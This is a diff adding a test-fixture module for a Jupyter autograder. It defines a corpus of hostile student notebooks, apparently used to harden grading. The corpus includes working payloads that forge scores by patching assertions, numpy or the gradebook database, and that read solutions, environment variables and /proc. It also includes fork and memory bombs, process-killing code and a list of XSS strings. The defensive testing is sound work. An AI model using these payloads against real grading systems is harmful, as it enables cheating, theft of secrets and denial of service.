@@ -1,0 +1,422 @@
+"""Hostile and broken notebooks: what each does, what it must get, and which of them work on nbgrader's own executor.
+
+Where nothing else is said the attack is the answer cell of adam_step, which deserves nothing, and the answer
+to adamw_step is right and keeps its points. @ROOT@, @PORT@, @PID@ and @LEFT@ become the course's folder, a port that
+listens, a process that sleeps and a path where a leftover process would write.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import struct
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from autograder.sample import Notebook
+
+ASSIGNMENT = "04_adaptive"
+POINTS = {"adam_step": 6.0, "adamw_step": 6.0}
+# What must not get out. The solutions, the gradebook, the victim's answer, the environment and the seed hold one each;
+# the last is a line of the course's own table of cases.
+CANARIES = {"solutions": "canary-in-the-solutions", "gradebook": "canary-in-the-gradebook", "victim": "canary-of-the-victim",
+            "environment": "canary-in-the-environment", "seed": "cafe0123456789abcdef0123456789abcdef0123456789ab",
+            "cases": "def adam_cases(rng"}  # fmt: skip
+PWNED = "alert('pwned')"
+SIGNATURE = "def adam_step(w, g, m, v, t, *, lr, beta1, beta2, eps):"
+STUB = f"{SIGNATURE}\n    raise NotImplementedError\n"
+RIGHT = f"""{SIGNATURE}
+    xp = array_namespace(w, g, m, v)
+    m = beta1 * m + (1 - beta1) * g
+    v = beta2 * v + (1 - beta2) * g**2
+    return w - lr * m / (1 - beta1**t) / (xp.sqrt(v / (1 - beta2**t)) + eps), m, v
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission.
+
+    code: the answer cell of adam_step. change: what else happens to the notebook; it may return the file's bytes.
+    files: what else is handed in, made in the submission's folder (given with the course's).
+    gets: points by kernel, where they are not 0 and 6. note: what must be said about the file.
+    control: "forges" or "reads": on the stock executor it gets more than it deserves, or a canary.
+    """
+
+    name: str
+    code: str | None = None
+    change: Callable[[Notebook], bytes | None] | None = None
+    files: Callable[[Path, Path], None] | None = None
+    gets: dict[str, float] = field(default_factory=dict)
+    note: str = ""
+    control: str = ""
+
+    @property
+    def scores(self) -> dict[str, float]:
+        return {"adam_step": 0.0, "adamw_step": 6.0} | self.gets
+
+    def content(self, fill: dict[str, str]) -> Notebook | bytes:
+        notebook = Notebook(ASSIGNMENT)
+        if self.code is not None:
+            text = self.code
+            for mark, value in fill.items():
+                text = text.replace(mark, value)
+            notebook.answer("adam_step", text)
+        changed = self.change(notebook) if self.change else None
+        return notebook if changed is None else changed
+
+
+ALL = {"adam_step": 6.0}
+NONE = {"adamw_step": 0.0}
+
+
+def told(code: str) -> str:
+    """Runs an expression for its text, in the cell and in the kernel, and shouts it by every way out."""
+    return f"""
+import glob, os, sqlite3, sys, warnings
+def found():
+    return str({code})
+try:
+    print(found())
+    print(found(), file=sys.stderr)
+except Exception:
+    pass
+{SIGNATURE}
+    text = found()
+    print(text)
+    warnings.warn(text)
+    raise ValueError(text)
+"""
+
+
+def inputs(code: str) -> str:
+    """A kernel that sees hidden inputs and tries to get them out."""
+    return f"import sys, warnings\nseen = []\n{SIGNATURE}\n    seen.append(w)\n{code}"
+
+
+# Attacks on the score
+
+FORGING = (
+    Attack("drops-asserts", f"""
+import ast
+class Drop(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+    def visit_Expr(self, node):
+        return ast.copy_location(ast.Expr(ast.Constant(6.0)), node)
+get_ipython().ast_transformers.append(Drop())
+{STUB}""", control="forges"),
+    Attack("displayhook", f"{SIGNATURE}\n    get_ipython().displayhook(6.0)\n    return w, m, v", control="forges"),
+    Attack("redefines-check", f"check = lambda *kernels: 6.0\n{STUB}", control="forges"),
+    Attack("imports-the-reference", "from autograder.chapters.adaptive.reference import adam_step", control="forges"),
+    Attack("patches-the-suite", f"""
+import autograder.suite.trial as trial
+trial.first_difference = lambda *everything: None
+{SIGNATURE}
+    return w, m, v""", control="forges"),
+    Attack("patches-numpy", f"""
+import numpy as np
+np.isclose = lambda a, b, **more: np.ones(np.shape(a), bool)
+np.allclose = np.array_equal = lambda *a, **more: True
+{SIGNATURE}
+    return w, m, v""", control="forges"),
+    Attack("climbs-the-stack", """
+import sys
+def adam_step(*arguments, **hyper):
+    frame = sys._getframe()
+    while frame is not None:
+        exercise = frame.f_locals.get("exercise")
+        if exercise is not None:
+            return exercise.reference(*arguments, **hyper)
+        frame = frame.f_back
+    raise NotImplementedError""", control="forges"),
+    Attack("writes-the-gradebook", f"""
+import sqlite3
+try:
+    with sqlite3.connect("@ROOT@/gradebook.db") as gradebook:
+        gradebook.execute("UPDATE grade SET extra_credit = 200")
+except Exception:
+    pass
+{STUB}""", control="forges"),
+    Attack("equal-to-everything", f"""
+class Liar:
+    dtype, shape, ndim, size = "float64", (), 0, 1
+    def __eq__(self, other):
+        get_ipython().displayhook(6.0)
+        return True
+    __le__ = __ge__ = __eq__
+    __hash__ = None
+    def __array__(self, *args, **more):
+        get_ipython().displayhook(6.0)
+        raise NotImplementedError
+    def __float__(self):
+        return 6.0
+{SIGNATURE}
+    return Liar(), Liar(), Liar()"""),
+    Attack("forges-replies", f"""
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b'{{"results": [], "id": "0"}}' * 50)
+    except OSError:
+        pass
+{STUB}"""),
+    Attack("outputs-already-there", STUB, change=lambda nb: nb.cell("check-adam_step").update(outputs=[
+        {"output_type": "execute_result", "data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1}])),
+)  # fmt: skip
+
+# Attacks on what others wrote
+
+READING = (
+    Attack("reads-solutions", told("open('@ROOT@/solutions/04_adaptive/04_adaptive.ipynb').read()"), control="reads"),
+    Attack("reads-others", told("open('@ROOT@/submitted/victim/04_adaptive/04_adaptive.ipynb').read()"), control="reads"),
+    Attack("reads-the-gradebook",
+           told("list(sqlite3.connect('file:@ROOT@/gradebook.db?mode=ro', uri=True).execute('SELECT * FROM student'))"),
+           control="reads"),
+    Attack("reads-the-environment", told("dict(os.environ)"), control="reads"),
+    Attack("reads-the-seed", told("open('@ROOT@/.course-seed').read()"), control="reads"),
+    Attack("reads-the-tests", told("open(__import__('autograder.chapters.adaptive.exercises', fromlist=['*']).__file__).read()"),
+           control="reads"),
+    Attack("reads-proc", told("[open(p, 'rb').read() for p in glob.glob('/proc/[0-9]*/environ') + ['/proc/self/mountinfo']]")),
+    Attack("raises-its-inputs", inputs("    raise ValueError(repr((w, g, m, v)))")),
+    Attack("prints-its-inputs", inputs("    print(seen); print(seen, file=sys.stderr); warnings.warn(repr(seen))\n"
+                                       + RIGHT.partition("\n")[2]), gets=ALL),
+    Attack("returns-other-inputs", inputs("    other = seen[len(seen) // 2]\n    return w * 0 + other.reshape(-1)[0], m, v")),
+)  # fmt: skip
+
+# Attacks on the machine
+
+EXHAUSTING = (
+    Attack("exits-in-a-cell", f"import os\n{STUB}\nos._exit(0)"),
+    Attack("exits-in-the-kernel", f"import os\n{SIGNATURE}\n    os._exit(0)"),
+    Attack("loops-in-a-cell", f"""{STUB}
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass"""),
+    Attack("loops-in-the-kernel", f"""
+import signal
+for number in range(1, 32):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+{SIGNATURE}
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass"""),
+    Attack("fork-bomb", f"""
+import os
+{SIGNATURE}
+    for _ in range(1000):
+        try:
+            if os.fork() == 0:
+                while True:
+                    pass
+        except OSError:
+            pass
+    return w, m, v"""),
+    Attack("thread-bomb", f"""
+import threading, time
+{SIGNATURE}
+    for _ in range(10000):
+        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+    return w, m, v"""),
+    Attack("memory-bomb", f"{SIGNATURE}\n    hoard = []\n    while True:\n        hoard.append(bytearray(b'x') * (1 << 27))"),
+    Attack("output-flood", f"""
+import os, sys
+{SIGNATURE}
+    for _ in range(300):
+        print("flood" * 200_000)
+        print("flood" * 200_000, file=sys.stderr)
+        for descriptor in (1, 2):
+            try:
+                os.write(descriptor, b"flood" * 100_000)
+            except OSError:
+                pass
+    return w, m, v"""),
+    Attack("huge-result", f"import numpy as np\n{SIGNATURE}\n    return np.zeros((40_000, 10_000)), m, v"),
+    Attack("connects", f"""
+import socket
+try:
+    socket.create_connection(("127.0.0.1", @PORT@), 2).sendall(b"hello")
+except OSError:
+    pass
+{SIGNATURE}
+    socket.create_connection(("127.0.0.1", @PORT@), 2).sendall(bytes(w.tobytes()))
+    return w, m, v"""),
+    Attack("leaves-a-process", f"""
+import os, subprocess, time
+command = "for i in 1 2 3 4 5 6 7 8 9 10; do echo left >> @LEFT@; sleep 1; done"
+for start in (lambda: subprocess.Popen(["/bin/sh", "-c", command], start_new_session=True),
+              lambda: os.fork() == 0 and os.setsid() and os.execv("/bin/sh", ["sh", "-c", command]),
+              lambda: open("@LEFT@", "a").write("left")):
+    try:
+        start()
+    except BaseException:
+        pass
+{RIGHT}""", gets=ALL),
+    Attack("kills", f"""
+import os, signal
+for target in (@PID@, os.getppid()):
+    try:
+        os.kill(target, signal.SIGKILL)
+    except OSError:
+        pass
+{RIGHT}""", gets=ALL),
+)  # fmt: skip
+
+# Files that are not what they should be
+
+
+def _file(name: str, text: str):
+    return lambda folder, root: (folder / name).write_text(text)
+
+
+def _instead(make: Callable[[Path, Path], object]):
+    """Puts something else in the notebook's place."""
+
+    def files(folder: Path, root: Path) -> None:
+        notebook = folder / f"{ASSIGNMENT}.ipynb"
+        notebook.unlink()
+        make(notebook, root)
+
+    return files
+
+
+def _without_metadata(notebook: Notebook) -> None:
+    for cell in notebook.cells:
+        cell["metadata"] = {}
+        cell.pop("id", None)
+
+
+def _retyped(notebook: Notebook) -> None:
+    notebook.cell("adam_step").update(cell_type="markdown")
+    notebook.cell("adamw_step").update(cell_type="raw")
+    notebook.cell("question-move-the-rate").update(cell_type="code", outputs=[], execution_count=None)
+
+
+def _ungraded(notebook: Notebook) -> None:
+    for grade_id in ("check-adam_step", "check-adamw_step"):
+        notebook.cell(grade_id)["metadata"]["nbgrader"].update(grade=False, points=60, locked=False, solution=True)
+
+
+def _duplicated(notebook: Notebook) -> None:
+    for grade_id in ("adam_step", "check-adam_step"):
+        copy = notebook.copy_of(grade_id) | {"source": STUB}
+        notebook.cells.append(copy)
+
+
+def _deleted(notebook: Notebook) -> None:
+    for grade_id in ("adam_step", "check-adam_step", "check-adamw_step", "setup"):
+        notebook.cells.remove(notebook.cell(grade_id))
+
+
+def _version_3(notebook: Notebook) -> bytes:
+    cells = [{**cell, "input": cell.pop("source"), "language": "python"} for cell in notebook.cells]
+    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()
+
+
+def _wrong_shapes(notebook: Notebook) -> None:
+    notebook.cells[1:1] = [None, 7, {"cell_type": 3}, {"source": {"a": 1}}, {"cell_type": "code", "source": ["x", 1]}, [[]]]
+    notebook.cell("adamw_step").update(outputs="none", execution_count="first", attachments=[1], id=5)
+    notebook.raw |= {"metadata": {"kernelspec": {"name": "bash", "display_name": 7}, "language_info": []}, "nbformat": "four"}
+
+
+def _odd_characters(notebook: Notebook) -> None:
+    notebook.cell("adam_step")["source"] = RIGHT.replace("\n", "\x00\r\n")
+    notebook.insert(1, "lone \ud800 surrogate, \x1b[31m escape and \x07 bell", "markdown")
+    notebook.insert(1, "text = '\udfff'")
+
+
+def _png(text: bytes = b"") -> str:
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    rows = zlib.compress(b"\0\xff\0\0" * 1)
+    data = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) + chunk(b"tEXt", text)
+    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + data + chunk(b"IDAT", rows) + chunk(b"IEND", b"")).decode()
+
+
+SCRIPTS = (
+    f"<script>{PWNED}</script>", f"<img src=x onerror=\"{PWNED}\">", f"[x](javascript:{PWNED})", f"[x](java\tscript:{PWNED})",
+    f"[x](&#106;avascript&colon;{PWNED})", f"[x]\n\n[x]: javascript:{PWNED}", f"<javascript:{PWNED}>", f"<svg/onload={PWNED}>",
+    f"`code` <b onclick=\"{PWNED}\">", f"$$\\href{{javascript:{PWNED}}}{{x}}$$", f"<!-- <script>{PWNED}</script> -->",
+    f"[x](data:text/html,<script>{PWNED}</script>)", f"<details open ontoggle={PWNED}>", f"<a href='vbscript:{PWNED}'>x</a>",
+    f"```mermaid\nclick A call {PWNED}\n```", f"![x](x \"onerror={PWNED}\")", f"<iframe srcdoc='<script>{PWNED}</script>'></iframe>",
+    f"&lt;script&gt;{PWNED}", f"<style onload={PWNED}></style>", f"</script><script>{PWNED}</script>", f"<?php {PWNED} ?>",
+)  # fmt: skip
+
+
+def _scripts(notebook: Notebook) -> None:
+    for text in SCRIPTS:
+        notebook.insert(3, text, "markdown")
+    notebook.insert(3, SCRIPTS[0], "raw", metadata={"raw_mimetype": "text/html", "tags": [SCRIPTS[0]]})
+    notebook.insert(3, f"%%html\n{SCRIPTS[0]}")
+    notebook.cell("question-move-the-rate").update(source="\n\n".join(SCRIPTS), attachments={
+        SCRIPTS[1]: {"image/png": _png()}, "a.svg": {"image/svg+xml": SCRIPTS[0]}, "b.png": {"image/png": SCRIPTS[0]}})  # fmt: skip
+    image = {"image/png": _png(PWNED.encode()), "text/plain": SCRIPTS[0]}
+    bad = {"text/html": SCRIPTS[0], "application/javascript": PWNED, "image/svg+xml": SCRIPTS[7], "text/latex": SCRIPTS[9],
+           "text/markdown": SCRIPTS[2], "image/png": SCRIPTS[1], "image/jpeg": '" onerror="' + PWNED}  # fmt: skip
+    for cell in notebook.cells:
+        if cell["cell_type"] == "code":
+            cell["outputs"] = [
+                {"output_type": "display_data", "data": image, "metadata": {"isolated": SCRIPTS[0]}},
+                {"output_type": "display_data", "data": bad, "metadata": {}},
+                {"output_type": "stream", "name": "stdout", "text": SCRIPTS[0]},
+                {"output_type": "error", "ename": SCRIPTS[0], "evalue": SCRIPTS[1], "traceback": [SCRIPTS[0]]},
+            ]
+
+
+def _nowhere(notebook: Notebook) -> bytes:
+    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+
+
+BROKEN = (
+    Attack("numpy-py", files=_file("numpy.py", "raise SystemExit"), gets=ALL),
+    Attack("symlink", files=_instead(lambda path, root: path.symlink_to(root / "solutions" / ASSIGNMENT / path.name)),
+           gets=NONE, note="link", control="forges"),
+    Attack("symlinked-data", STUB, files=lambda folder, root: (folder / "data.txt").symlink_to(root / ".course-seed"),
+           control="reads"),
+    Attack("symlink-to-zeros", files=lambda folder, root: (folder / "data.txt").symlink_to("/dev/zero"), gets=ALL),
+    Attack("pipe", files=_instead(lambda path, root: os.mkfifo(path)), gets=NONE, note="not a file"),
+    Attack("folder", files=_instead(lambda path, root: path.mkdir()), gets=NONE, note="not a file"),
+    Attack("missing", files=_instead(lambda path, root: None), gets=NONE, note="missing"),
+    Attack("renamed", files=_instead(lambda path, root: path.with_name("04_adaptive (1).ipynb").write_bytes(
+        Notebook(ASSIGNMENT).bytes())), gets=ALL),
+    Attack("odd-time-stamp", files=_file("timestamp.txt", "yesterday, I swear"), gets=ALL),
+    Attack("ungraded", change=_ungraded, gets=ALL),
+    Attack("deleted", change=_deleted, note="adam_step is missing"),
+    Attack("duplicated", change=_duplicated, gets=ALL),
+    Attack("retyped", change=_retyped, gets=ALL),
+    Attack("reordered", change=lambda notebook: notebook.cells.reverse(), gets=ALL),
+    Attack("without-metadata", change=_without_metadata, gets=ALL),
+    Attack("answered-elsewhere", STUB, change=lambda nb: nb.insert(nb.index("check-adam_step"), RIGHT) and None, gets=ALL),
+    Attack("not-json", change=lambda notebook: notebook.bytes()[:4000], gets=NONE, note="not JSON"),
+    Attack("merged-by-git", change=lambda nb: nb.bytes().replace(b'"cells"', b'<<<<<<< HEAD\n"cells"', 1), gets=NONE, note="git"),
+    Attack("empty", change=lambda notebook: b"", gets=NONE, note="empty"),
+    Attack("a-list", change=lambda notebook: b"[]", gets=NONE, note="not a notebook"),
+    Attack("no-cells", change=lambda notebook: b'{"cells": {}}', gets=NONE, note="no cells"),
+    Attack("binary", change=lambda notebook: b"\0\xff\xfe" * 1000, gets=NONE, note="not JSON"),
+    Attack("too-deep", change=_nowhere, gets=NONE, note="not JSON"),
+    Attack("nbformat-3", change=_version_3, gets=ALL),
+    Attack("wrong-shapes", change=_wrong_shapes, gets=ALL, note="could not be read"),
+    Attack("odd-characters", change=_odd_characters, gets=ALL),
+    Attack("huge-cell", change=lambda nb: nb.insert(2, "# " + "x" * 5_000_000) and None, gets=ALL, note="was cut"),
+    Attack("warnings", f"import sys, warnings\nwarnings.warn('old')\nprint('noise', file=sys.stderr)\n{RIGHT}", gets=ALL),
+    Attack("failing-cells", change=lambda nb: nb.insert(2, "1 / 0").insert(2, "def broken(:").insert(2, "import pandas") and None,
+           gets=ALL),
+    Attack("magics", change=lambda nb: nb.insert(2, "%matplotlib inline\n!ls\n%%time").answer(
+        "adam_step", f"%%time\n%config InlineBackend\n{RIGHT}") and None, gets=ALL),
+    Attack("scripts", change=_scripts, gets=ALL),
+)  # fmt: skip
+
+CORPUS = FORGING + READING + EXHAUSTING + BROKEN
